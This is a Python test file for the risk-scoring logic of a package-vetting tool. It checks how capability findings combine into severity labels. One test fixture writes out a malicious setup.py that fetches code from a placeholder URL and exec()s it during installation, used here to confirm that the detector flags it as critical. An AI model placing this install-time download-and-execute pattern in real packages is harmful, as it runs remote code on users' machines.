"""Scoring: capabilities combine; one capability in library code stays low."""

from assay.advisories.severity import Level
from assay.vetting.rules.base import (
    DYNAMIC_CODE,
    EXFILTRATION,
    IMPORT,
    INSTALL,
    INSTALL_HOOK,
    LIBRARY,
    NETWORK,
    OBFUSCATION,
    PERSISTENCE,
    PROCESS,
    SENSITIVE,
    PackageFinding,
)
from assay.vetting.scoring import DEFAULT_THRESHOLD, assess, label_for
from tests.vetting.package_builder import vet_sdist, vet_wheel


def _f(category, where, severity=Level.LOW, file="setup.py", line=1):
    return PackageFinding(file, line, f"rule-{category}", severity, category, where, "", "why")


def test_labels():
    assert [label_for(s) for s in (0, 0.5, 3.9, 4, 6.9, 7, 8.9, 9, 10)] == [
        "none",
        "low",
        "low",
        "medium",
        "medium",
        "high",
        "high",
        "critical",
        "critical",
    ]


def test_no_findings_is_none():
    assessment = assess([])
    assert (assessment.score, assessment.label, assessment.reasons) == (0.0, "none", ())
    assert "Nothing risky" in assessment.explanation


def test_network_plus_exec_at_install_is_critical():
    found = [_f(NETWORK, INSTALL, Level.MEDIUM), _f(DYNAMIC_CODE, INSTALL, Level.MEDIUM)]
    assessment = assess(found)
    assert assessment.score >= 9
    assert assessment.label == "critical"
    assert set(assessment.reasons) == set(found)
    assert "setup.py" in assessment.explanation
    assert "Do not install" in assessment.explanation


def test_same_pair_in_library_code_is_low():
    found = [
        _f(NETWORK, LIBRARY, Level.NONE, "pkg/a.py"),
        _f(PROCESS, LIBRARY, Level.NONE, "pkg/a.py"),
    ]
    assert assess(found).score == 0
    assert assess([_f(PROCESS, LIBRARY, Level.LOW, "pkg/a.py")]).label == "low"


def test_pair_split_across_install_files_does_not_combine():
    found = [
        _f(NETWORK, INSTALL, Level.MEDIUM, "setup.py"),
        _f(DYNAMIC_CODE, INSTALL, Level.MEDIUM, "x.pth"),
    ]
    assert assess(found).score < DEFAULT_THRESHOLD


def test_obfuscation_feeding_exec_at_import_is_high():
    found = [
        _f(OBFUSCATION, IMPORT, Level.LOW, "pkg/__init__.py"),
        _f(DYNAMIC_CODE, IMPORT, Level.LOW, "pkg/__init__.py"),
    ]
    assessment = assess(found)
    assert assessment.label == "high"
    assert assessment.score >= DEFAULT_THRESHOLD


def test_secrets_and_a_drop_in_one_library_file_combine():
    found = [
        _f(SENSITIVE, LIBRARY, Level.LOW, "pkg/steal.py"),
        _f(EXFILTRATION, LIBRARY, Level.MEDIUM, "pkg/steal.py"),
    ]
    assert assess(found).label == "high"


def test_install_hook_with_network_is_high_and_breadth_adds():
    hook = [_f(INSTALL_HOOK, INSTALL), _f(NETWORK, INSTALL, Level.MEDIUM)]
    assert assess(hook).score == 7.5
    broad = [*hook, _f(PROCESS, INSTALL, Level.MEDIUM), _f(SENSITIVE, INSTALL, Level.MEDIUM)]
    assert assess(broad).score == 10.0


def test_none_findings_do_not_combine_on_install_paths():
    found = [_f(NETWORK, INSTALL, Level.MEDIUM), _f(DYNAMIC_CODE, INSTALL, Level.NONE)]
    assert assess(found).score == 4.0


def test_end_to_end_critical_dropper_and_benign_build():
    dropper = (
        "import urllib.request\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Post(install):\n"
        "    def run(self):\n"
        "        code = urllib.request.urlopen(URL).read()\n"
        "        exec(code)\n"
        "        install.run(self)\n"
        "setup(name='demo', cmdclass={'install': Post})\n"
    )
    report = vet_sdist({"setup.py": dropper})
    assert report.label == "critical"
    assert report.flagged
    assert report.reasons
    benign = (
        "import subprocess\n"
        "from setuptools import setup\n"
        "from setuptools.command.build_ext import build_ext\n"
        "class Build(build_ext):\n"
        "    def run(self):\n"
        "        subprocess.check_call(['cmake', '..'])\n"
        "        build_ext.run(self)\n"
        "setup(name='demo', cmdclass={'build_ext': Build})\n"
    )
    report = vet_sdist({"setup.py": benign})
    assert not report.flagged
    assert report.label in {"low", "medium"}


def test_large_library_using_subprocess_and_sockets_is_not_flagged():
    files = {
        f"big/mod{i}.py": "import socket, subprocess\n\n"
        "def run(cmd):\n    return subprocess.run(cmd)\n\n"
        "def connect(host):\n    return socket.create_connection((host, 80))\n"
        for i in range(30)
    }
    report = vet_wheel(files)
    assert report.score < 4


def test_exfiltration_endpoint_plus_install_time_execution_across_files():
    found = [
        _f(EXFILTRATION, LIBRARY, Level.MEDIUM, "pkg/util.py"),
        _f(PROCESS, INSTALL, Level.MEDIUM, "setup.py"),
    ]
    assert assess(found).score == 8.0
    found[1] = _f(PROCESS, LIBRARY, Level.NONE, "pkg/run.py")
    assert assess(found).score == 4.0


def test_breadth_at_import_time_adds_to_the_score():
    found = [_f(c, IMPORT, Level.LOW, "pkg/__init__.py") for c in (PROCESS, SENSITIVE, PERSISTENCE)]
    assert assess(found).score == 2.5


def test_exfiltration_endpoint_plus_library_second_stage_combine_in_shipped_code():
    found = [
        _f(EXFILTRATION, LIBRARY, Level.MEDIUM, "pkg/docs.py"),
        _f("second-stage", LIBRARY, Level.MEDIUM, "pkg/cli.py"),
    ]
    assert assess(found).score == 7.5
    in_tests = [
        _f(EXFILTRATION, LIBRARY, Level.MEDIUM, "pkg/tests/test_hooks.py"),
        _f("second-stage", LIBRARY, Level.MEDIUM, "pkg/cli.py"),
    ]
    assert assess(in_tests).score == 4.0


def test_two_medium_warning_signs_in_shipped_code_are_high():
    found = [
        _f(OBFUSCATION, IMPORT, Level.MEDIUM, "pkg/a.py"),
        PackageFinding("pkg/b.py", 1, "rule-drop", Level.MEDIUM, "persistence", LIBRARY, "", ""),
    ]
    assert assess(found).score >= DEFAULT_THRESHOLD
    one = [_f(OBFUSCATION, LIBRARY, Level.MEDIUM, "pkg/a.py"), _f(PROCESS, LIBRARY, Level.NONE)]
    assert assess(one).score < DEFAULT_THRESHOLD
    under_tests = [
        PackageFinding("pkg/tests/a.py", 1, "r1", Level.MEDIUM, OBFUSCATION, LIBRARY, "", ""),
        PackageFinding("pkg/tests/b.py", 1, "r2", Level.MEDIUM, "second-stage", LIBRARY, "", ""),
    ]
    assert assess(under_tests).score < DEFAULT_THRESHOLD


def test_drop_box_and_a_request_in_one_shipped_file():
    found = [
        _f(EXFILTRATION, LIBRARY, Level.MEDIUM, "pkg/a.py"),
        _f(NETWORK, LIBRARY, Level.NONE, "pkg/a.py"),
    ]
    assert assess(found).score == 7.5
    apart = [
        _f(EXFILTRATION, LIBRARY, Level.MEDIUM, "pkg/a.py"),
        _f(NETWORK, LIBRARY, Level.NONE, "pkg/b.py"),
    ]
    assert assess(apart).score == 4.0


def test_two_obfuscation_techniques_in_a_small_package():
    found = [
        PackageFinding("pkg/a.py", 1, "obf-names", Level.MEDIUM, OBFUSCATION, IMPORT, "", ""),
        PackageFinding("pkg/a.py", 2, "obf-entropy", Level.LOW, OBFUSCATION, IMPORT, "", ""),
    ]
    assert assess(found).score == 7.0
    assert assess(found, files=200).score < DEFAULT_THRESHOLD  # a large framework
